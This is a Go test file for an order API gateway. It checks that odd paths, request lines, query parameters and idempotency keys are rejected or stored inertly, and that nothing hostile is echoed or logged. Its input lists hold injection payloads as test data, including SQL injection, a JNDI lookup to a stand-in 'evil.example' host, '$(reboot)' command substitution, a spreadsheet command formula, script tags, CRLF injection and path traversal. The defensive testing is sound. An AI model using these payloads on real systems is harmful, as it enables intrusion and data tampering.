package gateway_test

import (
	"context"
	"encoding/base64"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/oncegate/oncegate/order"
)

func base64Of(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

func TestStrangePathsReachNothing(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	id := k.place("k1").String()
	for _, target := range []string{
		"//api/orders/" + id, "/api//orders/" + id, "/api/orders//" + id, "/api/orders/" + id + "/", "/api/orders/" + id + "//cancel",
		"/api/./orders/" + id, "/api/orders/../orders/" + id, "/livez/../api/orders/" + id, "/api/orders/x/../" + id,
		"/api/orders/%2e%2e/orders/" + id, "/api/orders%2F" + id, "/api/orders/" + id + "%2Fcancel", "/api/orders/" + id + "%2fcancel",
		"/api/orders/" + id + "%00", "/api/orders/%00" + id, "/api/orders/" + id + "%0d%0aX:y", "/api/orders/" + id + ";v=1",
		"/api/orders/" + id + ".json", "/API/orders/" + id, "/api/orders/" + strings.ToUpper(id), "/api/orders/" + strings.ReplaceAll(id, "-", ""),
		"/api/orders/{" + id + "}", "/api/orders/" + id + "%20", "/api/orders/%30" + id[1:], "/api/orders/" + id[:35],
		"/api/orders/" + id + id, "/api/orders/" + strings.Repeat("0", 30<<10), "/api/orders/" + strings.Repeat("%30", 8<<10),
		"/api/orders/" + strings.Repeat("../", 8<<10), "/" + strings.Repeat("a/", 8<<10), "/api/orders/-1", "/api/orders/1%20OR%201=1",
		"/admin/v1/keys/alice/k1", "/metrics", "/debug/pprof/", "/.git/config", "/api/orders/" + id + "/ship",
	} {
		for _, method := range []string{"GET", "POST", "CANCEL"} {
			answers := k.exchange(method + " " + target + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + mint("alice", "orders") + "\r\nConnection: close\r\n\r\n")
			require.Len(t, answers, 1, target)
			require.Contains(t, []int{http.StatusNotFound, http.StatusBadRequest, http.StatusMethodNotAllowed}, answers[0].status, "%s %s", method, target)
			require.NotContains(t, answers[0].body, "potsticker", target)
		}
	}
	require.Equal(t, order.Pending, k.status(mustID(t, id)))
}

func TestStrangeTargetsReachNothing(t *testing.T) {
	t.Parallel()
	k := newLiveKit(t)
	bearer := "\r\nHost: x\r\nAuthorization: Bearer " + mint("alice", "orders") + "\r\nConnection: close\r\n\r\n"
	for line, want := range map[string]int{
		"": http.StatusBadRequest,
		"GET http://evil.example/api/orders HTTP/1.1": http.StatusOK, // the absolute form; the host is nothing to us
		"OPTIONS * HTTP/1.1":                          http.StatusNotFound,
		"CONNECT 10.0.0.7:3306 HTTP/1.1":              http.StatusNotFound,
		"GET 10.0.0.7:3306 HTTP/1.1":                  http.StatusBadRequest,
		"GET api/orders HTTP/1.1":                     http.StatusBadRequest,
		"GET /api/orders":                             http.StatusBadRequest,
		"GET /api/orders HTTP/9.9":                    http.StatusHTTPVersionNotSupported,
		"GET /api/orders HTTP/1.1 x":                  http.StatusBadRequest,
		"G\x00T /api/orders HTTP/1.1":                 http.StatusBadRequest,
		"GET /api/or\x00ders HTTP/1.1":                http.StatusBadRequest,
		"GET /api/orders?cursor=%zz HTTP/1.1":         http.StatusBadRequest,
		"PRI * HTTP/2.0":                              http.StatusNotFound,
		"TRACE /api/orders HTTP/1.1":                  http.StatusMethodNotAllowed,
	} {
		answers := k.exchange(line + bearer)
		require.NotEmpty(t, answers, line)
		require.Equal(t, want, answers[0].status, "%q", line)
		require.NotContains(t, answers[0].body, "Bearer", "nothing is echoed")
	}
}

func TestStrangeParametersOfAList(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	for _, query := range []string{
		"limit=0", "limit=-1", "limit=101", "limit=1e1", "limit=0x10", "limit=", "limit=1&limit=2", "limit=%31%00", "limit=+5", "limit=%2B5", "limit=05", "limit= 5", "limit=" + strings.Repeat("9", 1000),
		"cursor=", "cursor=AA", "cursor=' OR 1=1", "cursor=" + strings.Repeat("A", 20<<10), "cursor=AAAAAAAAAAAAAAAAAAAAAA", "cursor=a&cursor=b",
		"curser=AA", "Limit=5", "limit=5&x", "=", strings.Repeat("a=b&", 5000),
	} {
		q, err := url.ParseQuery(query)
		require.NoError(t, err)
		require.Equal(t, http.StatusBadRequest, k.get("/api/orders?"+q.Encode()).status, query)
	}
	for _, query := range []string{"", "&", "limit=5", "limit=%35"} {
		require.Equal(t, http.StatusOK, k.get("/api/orders?"+query).status, query)
	}
	for _, query := range []string{"limit=5;cursor=a", "limit=%zz"} { // of which a part would be lost
		require.Equal(t, []string{"?"}, k.get("/api/orders?"+query).problem(t).paths(), query)
	}
}

// What a caller means must be in what is read: the query is no part of what a key
// stands for.
func TestParametersThatAreNotReadAreRefused(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	id := k.place("k1").String()
	for _, c := range []struct{ method, target, body string }{
		{http.MethodPost, "/api/orders?dry_run=secret", plain},
		{http.MethodPost, "/order/create_user_order?dry_run=secret", plain},
		{http.MethodPost, "/api/order-batches?dry_run=secret", two("1", "2")},
		{http.MethodPost, "/api/orders/" + id + "/cancel?dry_run=secret", ""},
		{http.MethodGet, "/api/orders/" + id + "?dry_run=secret", ""},
		{http.MethodGet, "/api/requests/k1?dry_run=secret", ""},
		{http.MethodHead, "/api/orders?dry_run=secret", ""},
	} {
		r := k.do(c.method, c.target, c.body, as("alice"), key("k2"))
		require.Equal(t, http.StatusBadRequest, r.status, c.target)
		if c.method != http.MethodHead {
			require.Equal(t, []string{"?dry_run"}, r.problem(t).paths(), c.target)
			require.NotContains(t, r.body, "secret", "a value is not repeated")
		}
	}
	require.Equal(t, order.Pending, k.status(mustID(t, id)))
	require.Equal(t, http.StatusNotFound, k.get("/api/requests/k2").status, "nothing is claimed")
	require.Equal(t, "UNAUTHENTICATED", k.do(http.MethodGet, "/api/orders?x", "").problem(t).Code, "who asks comes first")
	for _, target := range []string{"/readyz?verbose", "/livez?x", "/api/policy?_=1", "/openapi.yaml?v=2"} {
		require.Equal(t, http.StatusOK, k.do(http.MethodGet, target, "").status, target)
	}
}

// hostileKeys are keys that would be something else to a careless program.
func hostileKeys() []string {
	return []string{
		`1'OR'1'='1`, `';DROP/**/TABLE/**/orders;--`, `1;SELECT(SLEEP(5))#`, `%27%20OR%201=1`, `*3$3SET$1a$1b`, `{oncegate}:1:alice`, `oncegate:1:{x}:y`,
		`%0d%0aSet-Cookie:a=b`, `%0aINFO{}`, `$(reboot)`, "`id`", `${jndi:ldap://evil.example/a}`, `{{7*7}}`, `<script>alert(1)</script>`,
		`../../admin/v1/users/bob`, `..%2f..%2fadmin`, `.`, `..`, `/`, `//`, `a/b/../c`, `?x=1#y`, `&`, `%`, `%zz`, `%s%n%x`, `=cmd|'/C'!A0`, `__proto__`, `constructor`,
		`null`, `undefined`, `0`, `-1`, `NaN`, `[]`, `*`, `>`, `;`, strings.Repeat("k", order.MaxKeyLen),
	}
}

func TestHostileKeysAreOnlyKeys(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	require.NoError(t, k.ledger.SetBalance(context.Background(), "alice", 1_000_000_00))
	locations := map[string]string{}
	for _, hostile := range hostileKeys() {
		first := k.post(plain, key(hostile))
		require.Equal(t, http.StatusCreated, first.status, "%s: %s", hostile, first.body)
		location := first.header.Get("Location")
		require.Empty(t, locations[location], "%s is the order of another key", hostile)
		locations[location] = hostile
		for name := range first.header {
			require.Contains(t, []string{"Content-Type", "Content-Length", "Location", "X-Request-Id", "Date"}, name, hostile)
		}
		again := k.post(plain, key(hostile))
		require.Equal(t, "true", again.header.Get("Idempotent-Replayed"), hostile)
		require.Equal(t, first.body, again.body, hostile)
		if hostile != "." && hostile != ".." { // a path cannot carry these
			r := k.get("/api/requests/" + url.PathEscape(hostile))
			require.Equal(t, http.StatusOK, r.status, "%s: %s", hostile, r.body)
			require.Contains(t, r.body, location, hostile)
		}
		require.Equal(t, "NOT_FOUND", k.get("/api/requests/"+url.PathEscape("never"+hostile[:min(len(hostile), 250)])).problem(t).Code, hostile)
	}
	n, err := k.ledger.CountOrders(context.Background(), "alice")
	require.NoError(t, err)
	require.Equal(t, len(hostileKeys()), n)
	for line := range strings.SplitSeq(strings.TrimSpace(k.logs.String()), "\n") {
		require.True(t, strings.HasPrefix(line, `{"time":"`), line)
		for _, mark := range []string{"DROP", "jndi", "script", "Set-Cookie", "reboot"} {
			require.NotContains(t, line, mark)
		}
	}
}

// What a key may not hold is refused, and nothing of it is repeated.
func TestKeysThatBreakALineAreRefused(t *testing.T) {
	t.Parallel()
	k := newKit(t)
	for _, hostile := range []string{
		"a b", "a\tb", `a"b`, `a\b`, "a,b", "k\u00fc", "\u202e", strings.Repeat("k", order.MaxKeyLen+1), `"`, `""`, `"a`, `"a"b"`,
	} {
		r := k.post(plain, key(hostile))
		require.Equal(t, "IDEMPOTENCY_KEY_INVALID", r.problem(t).Code, "%q", hostile)
	}
	for _, escaped := range []string{"a%0d%0ab", "a%00", "%20", "a%22b", "%c3%bc", "%e2%80%ae", "%ff", "%", "%2"} {
		answers := k.exchange("GET /api/requests/" + escaped + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + mint("alice", "orders") + "\r\nConnection: close\r\n\r\n")
		require.Len(t, answers, 1)
		require.Equal(t, http.StatusBadRequest, answers[0].status, escaped)
	}
	// Raw line ends in a header end the header, and so the key.
	answers := k.exchange(request("alice", "X: y\r\n\r\nIdempotency-Key: k2\r\n"+declared(plain), plain))
	require.NotEqual(t, http.StatusCreated, answers[0].status)
	require.Zero(t, k.ledger.Calls().Decide)
	require.NotContains(t, k.logs.String(), "\u202e")
}
